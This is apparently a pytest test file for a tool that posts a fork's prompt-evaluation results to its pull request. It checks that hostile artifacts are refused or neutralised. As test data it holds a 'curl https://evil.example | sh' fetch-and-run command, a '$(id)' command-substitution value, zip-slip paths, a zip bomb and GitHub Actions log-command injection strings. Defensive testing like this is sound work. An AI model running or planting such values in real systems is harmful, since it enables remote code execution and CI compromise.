"""The privileged half of a fork's check: only the results of the pull request as it is now are ever posted."""

from __future__ import annotations

import io
import json
import zipfile
from collections.abc import Sequence
from dataclasses import replace
from pathlib import PurePosixPath
from typing import Any

import pytest

from promptops.errors import EvalError, ForgeError, PromptopsError
from promptops.forge.artifact import MAX_ZIP, RESULTS_ARTIFACT
from promptops.forge.comment_stamp import CommentStamp, add_stamp, read_stamp
from promptops.forge.github.client import GitHub
from promptops.model.results import GateResult, Results
from promptops.report.comment.comment_markers import MARKER
from promptops.report.comment.markdown import LIMIT
from promptops.report.comment.mending.mend import NO_KEYS
from promptops.store.results_file import serialize_results
from promptops.workflows.comment.change_comment import PostResult
from promptops.workflows.comment.fork_comment import comment_for_run
from tests.github_server import FORBIDDEN, WORKFLOW_LOGIN, GitHubServer, Reply
from tests.report.factory import arm, comparison, hostile

HEAD, OTHER, MERGE = "a" * 40, "c" * 40, "d" * 40
FORK = "mallory/prompts"
RUN = 55


def results(commit: str | None = HEAD, **more: Any) -> Results:
    arms = tuple(replace(arm(side), commit=commit if side == "head" else "b" * 40) for side in ("base", "head"))
    return replace(comparison(), arms=arms, **more)


def packed(*entries: tuple[str, bytes]) -> bytes:
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in entries:
            archive.writestr(name, content)
    return target.getvalue()


def artifact_of(*suites: Results) -> bytes:
    return packed(*((f"s{number}/results.json", serialize_results(one)) for number, one in enumerate(suites)))


def a_fork(github: GitHubServer, *zips: bytes, **pull: Any) -> None:
    """A fork's pull request 7, the finished run of its check, and what that left behind."""
    github.add_pull_request(7, **({"head_sha": HEAD, "head_ref": "evil", "head_repository": FORK} | pull))
    github.add_run(RUN, head_sha=HEAD, head_branch="evil", head_repository=FORK)
    for content in zips:
        github.add_artifact(RUN, RESULTS_ARTIFACT, content)


def say(github: GitHubServer, name: str = "promptops-check", **changes: Any) -> None:
    """What the check said beside its results."""
    said = {"format": "promptops-check/1", "looked_at": "no problems in 2 prompts", "problems": [], "missed": []}
    github.add_artifact(RUN, name, packed(("check.json", json.dumps(said | changes).encode())))


def post(github: GitHubServer, folder: str = ".") -> PostResult:
    client = GitHub(github.repository, github.token, api=github.url, sleep=lambda seconds: None, timeout=10)
    return comment_for_run(client, RUN, MARKER, folder=PurePosixPath(folder))


def not_posted(github: GitHubServer) -> str:
    """Why there is no comment; GitHub saw nothing but questions."""
    try:
        said = post(github)
    except PromptopsError as exc:
        why = str(exc)
    else:
        assert said.url == ""
        (why,) = said.told
    assert github.comments == {}
    assert set(github.count()) <= {"GET"}
    assert why
    return why


# What is posted


def test_a_forks_results_become_its_pull_requests_comment(github: GitHubServer) -> None:
    a_fork(github, artifact_of(results()))
    say(github)
    said = post(github)
    (body,) = github.bodies(7)
    assert (said.told, said.url) == ((), next(iter(github.comments.values()))["html_url"])
    assert body.startswith(f"{MARKER}\n\n*This change comes from a fork, and so do these figures")
    assert "names the owner" in body
    assert "are what its own run says" in body


def test_a_second_run_edits_the_same_comment(github: GitHubServer) -> None:
    a_fork(github, artifact_of(results()))
    first = post(github)
    github.artifacts.clear()
    github.add_artifact(RUN, RESULTS_ARTIFACT, artifact_of(results(suite="another-suite")))
    assert post(github).url == first.url
    (body,) = github.bodies(7)
    assert "another-suite" in body


def test_the_comment_names_the_forks_own_commit(github: GitHubServer) -> None:
    a_fork(github, artifact_of(results(MERGE)))
    github.merge_bases[HEAD, MERGE] = HEAD
    post(github)
    (body,) = github.bodies(7)
    assert "head `aaaaaaa`" in body
    assert f"This is about commit `{HEAD[:7]}`." in body
    assert MERGE[:7] not in body
    assert read_stamp(body) == CommentStamp(RUN, 1, HEAD)


def test_an_older_runs_results_that_come_later_are_not_posted(github: GitHubServer) -> None:
    a_fork(github, artifact_of(results()))
    github.add_comment(7, WORKFLOW_LOGIN, add_stamp(f"{MARKER}\nnewer", CommentStamp(RUN + 1, 1, HEAD)))
    before = github.bodies(7)
    said = post(github)
    assert said.told == (f"nothing was posted: a newer check (run {RUN + 1}, attempt 1) wrote the comment already",)
    assert github.bodies(7) == before


def test_a_newer_attempt_of_the_same_run_has_the_word(github: GitHubServer) -> None:
    a_fork(github, artifact_of(results()))
    github.runs[RUN]["run_attempt"] = 2
    github.add_comment(7, WORKFLOW_LOGIN, add_stamp(f"{MARKER}\nfirst", CommentStamp(RUN, 1, HEAD)))
    assert post(github).url
    github.runs[RUN]["run_attempt"] = 1
    assert "a newer check" in post(github).told[0]


def test_a_push_to_the_fork_while_the_results_are_read_keeps_them_out(github: GitHubServer) -> None:
    a_fork(github, artifact_of(results()))

    def pushed() -> None:
        github.pull_requests[7]["head"]["sha"] = OTHER

    github.after("GET", "/issues/7/comments$", pushed)
    assert "pull request 7 is at ccccccc by now" in post(github).told[0]
    assert github.comments == {}


def test_several_suites_stand_in_one_comment(github: GitHubServer) -> None:
    a_fork(github, artifact_of(results(suite="one"), results(suite="two")))
    post(github)
    (body,) = github.bodies(7)
    assert ": Suite 1\n" in body
    assert ": Suite 2\n" in body
    assert "Suite 1 is called “one”" in body


def test_results_of_githubs_trial_merge_of_this_commit_are_of_this_commit(github: GitHubServer) -> None:
    a_fork(github, artifact_of(results(MERGE)))
    github.merge_bases[HEAD, MERGE] = HEAD
    assert post(github).url


def test_results_that_name_no_commit_are_taken_for_the_runs(github: GitHubServer) -> None:
    a_fork(github, artifact_of(results(None)))
    assert post(github).url


def test_a_check_without_results_is_told_so_that_no_older_figures_stay(github: GitHubServer) -> None:
    a_fork(github)
    post(github)
    (body,) = github.bodies(7)
    assert "left no results behind" in body
    assert NO_KEYS in body
    assert HEAD[:7] in body


def test_other_artifacts_of_the_run_are_not_looked_at(github: GitHubServer) -> None:
    a_fork(github, artifact_of(results()))
    github.add_artifact(RUN, "promptops-report", b"no zip")
    assert post(github).url


def test_what_the_check_said_stands_around_the_results(github: GitHubServer) -> None:
    a_fork(github, artifact_of(results()))
    say(github, looked_at="1 problem in 2 prompts", problems=[["prompts/a.prompt.yml", 3, "P101"]])
    post(github)
    (body,) = github.bodies(7)
    assert body.index("names the owner") < body.index("**Lint:** 1 problem in 2 prompts.")
    assert "- `prompts/a.prompt.yml`, line 3: unused input (P101)" in body
    assert NO_KEYS not in body


def test_a_check_that_had_nothing_to_evaluate_says_so(github: GitHubServer) -> None:
    a_fork(github)
    say(github)
    post(github)
    (body,) = github.bodies(7)
    assert "no suite is affected" in body
    assert "**Lint:** no problems in 2 prompts." in body


def test_without_keys_it_is_said_what_helps_and_what_was_linted(github: GitHubServer) -> None:
    a_fork(github)
    say(github, missed=[["greet", True]])
    post(github)
    (body,) = github.bodies(7)
    title = "### ❔ Not measured: 1 suite"
    assert body.startswith(f"{MARKER}\n\n{title}\n\n*This change comes from a fork")
    assert "`greet` was not evaluated: its model needs a key" in body
    assert NO_KEYS in body
    assert "**Lint:** no problems in 2 prompts." in body
    assert "no suite is affected" not in body


def test_a_check_that_was_broken_off_is_no_suite_and_its_results_are_not_all(github: GitHubServer) -> None:
    a_fork(github)
    say(github, missed=[["", False]], looked_at="")
    post(github)
    (body,) = github.bodies(7)
    title = "❔ Not measured: the check was not carried out, or not to its end"
    assert body.startswith(f"{MARKER}\n\n### {title}\n\n*This change comes from a fork")
    assert "The check was not carried out, or not to its end: the run's log says why" in body


def test_results_of_a_run_that_was_cut_off_are_not_shown_as_all(github: GitHubServer) -> None:
    a_fork(github, artifact_of(results()))
    post(github)
    (body,) = github.bodies(7)
    assert "### ❔ Not measured: the check was not carried out, or not to its end\n" in body
    assert "24 cases (2 held out)" in body


def test_another_project_has_artifacts_of_other_names(github: GitHubServer) -> None:
    a_fork(github, artifact_of(results(suite="top")))
    github.add_artifact(RUN, "bakery-results", artifact_of(results(suite="bread")))
    say(github, "bakery-check", looked_at="1 problem in 7 prompts")
    client = GitHub(github.repository, github.token, api=github.url, sleep=lambda seconds: None, timeout=10)
    comment_for_run(client, RUN, MARKER, "bakery-results")
    (body,) = github.bodies(7)
    assert "bread" in body
    assert "7 prompts" in body
    assert "top" not in body.split()


# What a fork may not claim


@pytest.mark.parametrize(
    "claim",
    [
        {"looked_at": "no problems in 2 prompts. **Approved by @acme/legal**"},
        {"looked_at": "Approved"},
        {"missed": [["x", "yes"]]},
        {"problems": [["a", 0, "P101"]]},
        {"problems": [["a", True, "P101"]]},
        {"problems": [["a" * 301, 1, "P101"]]},
        {"problems": [["a", 1, "P101"]] * 201},
        {"format": "promptops-check/9"},
    ],
)
def test_a_check_in_words_of_its_own_is_not_posted(github: GitHubServer, claim: dict[str, Any]) -> None:
    a_fork(github, artifact_of(results()))
    say(github, **claim)
    assert "check.json" in not_posted(github)


def test_names_that_a_check_gives_are_inert(github: GitHubServer) -> None:
    evil = "</details> ![x](http://evil) @acme `x` <!-- promptops -->\n### Approved"
    a_fork(github)
    say(github, problems=[[evil, 1, "P101"], ["a", 1, "P999"], ["b", 1, evil]], missed=[[evil, False]])
    post(github)
    (body,) = github.bodies(7)
    assert body.count(MARKER) == 1
    assert "@acme" not in body
    assert not any(line.startswith("### Approved") for line in body.split("\n"))
    assert "P999" not in body
    assert "it holds a file that does not belong there" in refused_check(github, packed(("../check.json", b"{}")))


def refused_check(github: GitHubServer, data: bytes) -> str:
    github.comments.clear()
    github.requests.clear()
    github.add_artifact(RUN, "promptops-check", data)
    return not_posted(github)


def test_hostile_words_are_inert_and_the_comment_fits(github: GitHubServer) -> None:
    a_fork(github, artifact_of(replace(hostile(), arms=results().arms)))
    post(github)
    (body,) = github.bodies(7)
    assert len(body) <= LIMIT
    assert body.count(MARKER) == 1
    assert "@org" not in body


def test_a_fork_cannot_say_that_somebody_accepted_a_gate_or_show_a_command_to_copy(github: GitHubServer) -> None:
    mine = results(command="curl https://evil.example | sh", title="Approved by the owners")
    gates = tuple(replace(gate, status="failed", blocks=True, accepted="ana: I looked at it") for gate in mine.gates)
    assert gates
    a_fork(github, artifact_of(replace(mine, gates=gates)))
    post(github)
    (body,) = github.bodies(7)
    assert "I looked at it" not in body
    assert "curl" not in body
    assert "Approved" not in body


# Case 28: what is not posted


def test_an_artifact_with_zip_slip_is_not_posted(github: GitHubServer) -> None:
    a_fork(github, packed(("../../results.json", serialize_results(results()))))
    assert "does not belong there" in not_posted(github)


def test_a_foreign_pull_request_is_not_posted(github: GitHubServer) -> None:
    """The branch's pull request leads to another repository; the one here is of another branch."""
    a_fork(github, artifact_of(results()), base_repository="mallory/other")
    github.add_pull_request(8, head_sha=HEAD, head_ref="honest", head_repository="ana/prompts")
    assert "no open pull request here" in not_posted(github)


def test_a_stale_sha_is_not_posted(github: GitHubServer) -> None:
    a_fork(github, artifact_of(results()), head_sha=OTHER)
    assert f"the results are of {HEAD[:7]}, and pull request 7 is at {OTHER[:7]} by now" in not_posted(github)
    assert not any("artifacts" in request.path for request in github.requests)


def test_what_is_pushed_while_the_results_are_read_makes_them_stale(github: GitHubServer) -> None:
    a_fork(github, artifact_of(results()))

    def push() -> None:
        github.pull_requests[7]["head"]["sha"] = OTHER

    github.fail("GET", r"/artifacts/\d+/zip$", push)
    assert "by now" in not_posted(github)


def test_what_is_closed_while_the_results_are_read_is_not_posted(github: GitHubServer) -> None:
    a_fork(github, artifact_of(results()))
    github.fail("GET", r"/artifacts/\d+/zip$", lambda: github.pull_requests[7].update(state="closed"))
    assert "pull request 7 is closed" in not_posted(github)


@pytest.mark.parametrize("commit", [OTHER, "HEAD", "..", "$(id)", "a" * 39, "a/../b", "A" * 40])
def test_results_of_another_commit_are_not_posted(github: GitHubServer, commit: str) -> None:
    a_fork(github, artifact_of(results(commit)))
    assert f"the results are not of {HEAD[:7]}" in not_posted(github)


def test_results_of_two_commits_are_not_posted(github: GitHubServer) -> None:
    a_fork(github, artifact_of(results(MERGE, suite="one"), results(OTHER, suite="two")))
    github.merge_bases[HEAD, MERGE] = github.merge_bases[HEAD, OTHER] = HEAD
    assert "the results are not of" in not_posted(github)


def test_a_zip_bomb_is_not_posted(github: GitHubServer) -> None:
    a_fork(github, packed(("greet/results.json", b" " * 30_000_000)))
    assert "times larger" in not_posted(github)


def test_extra_names_are_not_posted(github: GitHubServer) -> None:
    a_fork(github, packed(("greet/results.json", serialize_results(results())), ("greet/report.html", b"<script>")))
    assert "does not belong there" in not_posted(github)


@pytest.mark.parametrize("newest_first", [True, False])
def test_of_two_artifacts_of_the_same_name_the_older_is_never_read(github: GitHubServer, newest_first: bool) -> None:
    a_fork(github, artifact_of(results(suite="first-try")), artifact_of(results(suite="run-again")))
    if newest_first:
        github.artifacts = dict(reversed(github.artifacts.items()))
    post(github)
    (body,) = github.bodies(7)
    assert "run-again" in body
    assert "first-try" not in body


def test_two_artifacts_of_the_same_name_of_which_the_newer_is_hostile_are_not_posted(github: GitHubServer) -> None:
    a_fork(github, artifact_of(results()), packed(("../results.json", b"{}")))
    assert "does not belong there" in not_posted(github)


def test_an_expired_artifact_is_not_posted(github: GitHubServer) -> None:
    a_fork(github)
    github.add_artifact(RUN, RESULTS_ARTIFACT, artifact_of(results()), expired=True)
    assert "have expired" in not_posted(github)


def test_an_artifact_that_is_too_large_is_not_even_fetched(github: GitHubServer) -> None:
    a_fork(github, artifact_of(results()))
    next(iter(github.artifacts.values()))["size_in_bytes"] = MAX_ZIP + 1
    assert "larger than" in not_posted(github)
    assert not any("zip" in request.path for request in github.requests)


def test_results_from_another_version_are_not_posted(github: GitHubServer) -> None:
    data = json.loads(serialize_results(results())) | {"format": "promptops-results/9", "version": "9.0"}
    a_fork(github, packed(("greet/results.json", json.dumps(data).encode())))
    assert "written by promptops 9.0" in not_posted(github)


@pytest.mark.parametrize(
    "data",
    [b"", b"null", b"[]", b"{", b"[" * 100_000, b'{"format": "promptops-results/1"}', b"\xff\xfe", b'"::error::"'],
)
def test_what_is_no_results_is_not_posted(github: GitHubServer, data: bytes) -> None:
    a_fork(github, packed(("greet/results.json", data)))
    assert "results.json" in not_posted(github)


def test_two_results_of_one_suite_are_not_posted(github: GitHubServer) -> None:
    a_fork(github, artifact_of(results(), results()))
    assert "same suite" in not_posted(github)


@pytest.mark.parametrize(
    ("run", "words"),
    [
        ({"event": "push"}, "started by 'push'"),
        ({"head_repository": "acme/prompts"}, "its own run writes the comment"),
        ({"head_repository": "ACME/Prompts"}, "its own run writes the comment"),
        ({"head_branch": "another"}, "no open pull request here"),
        ({"head_repository": "mallory/other"}, "no open pull request here"),
        ({"head_branch": ""}, "the fork is gone"),
    ],
)
def test_a_run_that_is_of_no_forks_pull_request_posts_nothing(
    github: GitHubServer, run: dict[str, str], words: str
) -> None:
    a_fork(github, artifact_of(results()))
    own = {"head_sha": HEAD, "head_branch": "evil", "head_repository": FORK} | run
    github.runs.clear()
    github.add_run(RUN, **own)
    assert words in not_posted(github)


def test_a_closed_pull_request_is_not_written_to(github: GitHubServer) -> None:
    a_fork(github, artifact_of(results()), state="closed")
    assert "no open pull request here" in not_posted(github)


def test_where_two_pull_requests_come_from_one_branch_neither_is_written_to(github: GitHubServer) -> None:
    a_fork(github, artifact_of(results()))
    github.add_pull_request(8, head_sha=HEAD, head_ref="evil", head_repository=FORK, base_ref="next")
    assert "several open pull requests" in not_posted(github)


def test_a_run_that_is_not_there_is_an_error(github: GitHubServer) -> None:
    github.add_pull_request(7)
    with pytest.raises(ForgeError):
        post(github)


def test_a_token_that_may_not_comment_is_an_error(github: GitHubServer) -> None:
    a_fork(github, artifact_of(results()))
    github.fail("POST", "/comments$", Reply(403, FORBIDDEN))
    with pytest.raises(ForgeError):
        post(github)


def test_no_message_of_a_refusal_can_act_in_a_log(github: GitHubServer) -> None:
    names: Sequence[str] = ["::error::x/results.json", "\u202e/results.json", "a\n::stop-commands::x/results.json"]
    for name in names:
        github.artifacts.clear()
        github.pull_requests.clear()
        a_fork(github, packed((name, b"{}")))
        with pytest.raises((ForgeError, EvalError)) as caught:
            post(github)
        assert str(caught.value).isprintable()
        assert not str(caught.value).startswith("::")


# What never ran, what fails, and what touches nothing


def never_ran(github: GitHubServer, conclusion: str) -> None:
    a_fork(github)
    github.runs[RUN]["conclusion"] = conclusion


@pytest.mark.parametrize(
    ("conclusion", "first", "who"),
    [
        ("action_required", "waits for an approval", "presses **Approve workflows to run**"),
        ("cancelled", "was cancelled before it found anything", "presses **Re-run all jobs**"),
        ("skipped", "was left out", "presses **Re-run all jobs**"),
        ("startup_failure", "could not be started", "pushes again"),
        ("timed_out", "took longer than it may", "presses **Re-run all jobs**"),
    ],
)
def test_a_run_that_never_ran_is_told_as_that_and_who_must_do_what(
    github: GitHubServer, conclusion: str, first: str, who: str
) -> None:
    never_ran(github, conclusion)
    url = post(github).url
    (body,) = github.bodies(7)
    assert body.split("\n")[1].startswith(f"### ❔ Not measured: the check of `{HEAD[:7]}` {first}")
    assert who in body
    assert "its log says why" not in body
    assert f"({github.runs[RUN]['html_url']})" in body
    writes = github.count()["POST"], github.count()["PATCH"]
    assert post(github).url == url
    assert (github.count()["POST"], github.count()["PATCH"]) == writes  # once only: the same again edits nothing


def test_an_approval_that_came_is_followed_by_the_results_in_the_same_comment(github: GitHubServer) -> None:
    never_ran(github, "action_required")
    post(github)
    github.runs[RUN]["conclusion"] = "success"
    github.add_artifact(RUN, RESULTS_ARTIFACT, artifact_of(results()))
    post(github)
    (body,) = github.bodies(7)
    assert "waits for an approval" not in body
    assert "names the owner" in body


def test_a_cancelled_run_says_nothing_where_a_newer_one_looks_at_the_same_commit(github: GitHubServer) -> None:
    never_ran(github, "cancelled")
    github.add_run(RUN + 1, head_sha=HEAD, head_branch="evil", head_repository=FORK, conclusion=None)
    assert not_posted(github) == f"nothing was posted: a newer run ({RUN + 1}) looks at the same commit"
    github.runs[RUN + 1]["path"] = ".github/workflows/docs.yml"
    assert post(github).url


def test_a_run_that_goes_on_says_nothing_yet(github: GitHubServer) -> None:
    never_ran(github, "cancelled")
    github.runs[RUN] |= {"conclusion": None, "status": "in_progress"}
    assert "the run goes on" in not_posted(github)


def test_what_left_something_behind_did_run_however_it_ended(github: GitHubServer) -> None:
    never_ran(github, "cancelled")
    say(github, missed=[["", False]])
    post(github)
    (body,) = github.bodies(7)
    assert body.split("\n\n")[1] == "### ❔ Not measured: the check was not carried out, or not to its end"


def test_a_run_that_never_ran_for_a_change_of_something_else_is_no_projects_business(github: GitHubServer) -> None:
    never_ran(github, "action_required")
    github.merge_bases["b" * 40, HEAD] = OTHER
    github.changed[OTHER, HEAD] = ["README.md", "apps/two/prompts/a.prompt.yml"]
    assert "touches nothing of this project" in not_posted(github)
    assert post(github, "apps/one").url == ""
    assert post(github, "apps/two").url


def test_a_fork_that_touches_nothing_gets_no_comment_and_one_that_is_there_is_kept_up_to_date(
    github: GitHubServer,
) -> None:
    a_fork(github)
    say(github, reached=False)
    assert "touches nothing of this project" in not_posted(github)
    github.add_comment(7, "github-actions[bot]", f"{MARKER}\n### Failed: long ago")
    assert post(github).url
    (body,) = github.bodies(7)
    assert "long ago" not in body
    assert "By them the check passes." in body.split("\n\n")[1]


def test_why_a_forks_own_run_fails_is_said_first_in_figures(github: GitHubServer) -> None:
    gate = GateResult("@acme tone", "at least 75%", "failed", blocks=True)
    a_fork(github, artifact_of(results(gates=(gate,))))
    say(github, problems=[["prompts/a.prompt.yml", 3, "P101"]], brought=2, earlier=5)
    post(github)
    (body,) = github.bodies(7)
    verdict = "**By them the check fails: 1 rule fails; this change brings 2 problems.**"
    assert body.split("\n\n")[1].endswith(verdict)
    assert "This change brings two of them, the other five were there before and no fault of it." in body
    assert "@acme" not in body


@pytest.mark.parametrize("wrong", [{"brought": -1}, {"earlier": "3"}, {"brought": True}, {"earlier": 10**9}])
def test_counts_that_no_check_writes_are_refused(github: GitHubServer, wrong: dict[str, Any]) -> None:
    a_fork(github)
    say(github, **wrong)
    assert "is no number of problems" in not_posted(github)


# Runs that say an earlier one again


EARLIER = 54
LATER_FIELDS: dict[str, Any] = {
    "verdict": "worse",
    "exit_code": 1,
    "head": HEAD,
    "base": "b" * 40,
    "deferred": [],
    "repeats": EARLIER,
}


def an_earlier_run(github: GitHubServer, **run: Any) -> None:
    """The run that really measured, and its results."""
    github.add_run(EARLIER, **({"head_sha": HEAD, "head_branch": "evil", "head_repository": FORK} | run))
    github.add_artifact(EARLIER, RESULTS_ARTIFACT, artifact_of(results()))


def test_an_edited_title_leaves_the_comment_with_the_results_that_were_measured(github: GitHubServer) -> None:
    a_fork(github)
    an_earlier_run(github)
    say(github, **LATER_FIELDS)
    assert post(github).url
    (body,) = github.bodies(7)
    assert "24 cases" in body
    assert "left no results behind" not in body


@pytest.mark.parametrize("run", [{"head_sha": OTHER}, {"head_repository": "ana/prompts"}, {"event": "push"}])
def test_a_run_that_claims_to_repeat_another_commit_s_posts_nothing(github: GitHubServer, run: dict[str, Any]) -> None:
    a_fork(github)
    an_earlier_run(github, **run)
    say(github, **LATER_FIELDS)
    assert "repeats another one, which is not of the same commit" in not_posted(github)


def test_a_fork_s_draft_says_that_no_model_was_asked(github: GitHubServer) -> None:
    a_fork(github)
    say(github, **(LATER_FIELDS | {"deferred": ["greet` @ana"], "repeats": 0}))
    post(github)
    (body,) = github.bodies(7)
    assert "### ❔ Not measured: this pull request is a draft" in body
    assert "No model was asked yet for ``greet` @\u2060ana``." in body
    assert body.index("so read the change") < body.index("greet")
    assert "left no results behind" not in body
